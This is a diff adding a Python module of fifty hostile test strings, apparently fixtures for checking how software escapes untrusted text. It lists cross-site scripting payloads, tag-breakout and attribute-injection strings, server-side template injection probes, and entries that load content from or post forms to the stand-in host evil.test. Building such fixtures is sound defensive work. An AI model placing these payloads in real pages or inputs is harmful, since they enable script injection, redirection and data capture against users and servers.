@@ -1,0 +1,61 @@
+"""Fifty texts that try to become something else: markup, script, an address, a template."""
+
+from __future__ import annotations
+
+_MARKUP = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</pre><img src=x onerror=alert(1)>",
+    "</code></pre><iframe src=//evil.test>",
+    "</svg><svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<object data=//evil.test></object>",
+    "<embed src=//evil.test>",
+    "<form action=//evil.test><input name=x></form>",
+    "<details open ontoggle=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script-->",
+    "--!><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script>",
+    "<textarea><script>alert(1)</script>",
+    "</textarea></select><script>alert(1)</script>",
+    "<table><tr><td></table><b>",
+    "</td></tr></table></details></main>",
+)
+_ATTRIBUTES = (
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    '"><script>alert(1)</script>',
+    "x onfocus=alert(1) autofocus tabindex=1",
+    '" style="background:url(//evil.test)',
+    "&quot; onclick=&quot;alert(1)",
+)
+_OTHERS = (
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    'https://evil.test/" onclick="alert(1)',
+    "{{ 7 * 7 }}{% import 'os' as os %}",
+    "{{ ''.__class__.__mro__ }}",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\x1b[31m<b>\x00\x08\x7f</b>",
+    "\u202e<script>\u202c\u2066</script>",
+    "line\r\nbreak\u2028<b>\u0085</b>\ud800",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+)
+HOSTILE = (*_MARKUP, *_ATTRIBUTES, *_OTHERS)
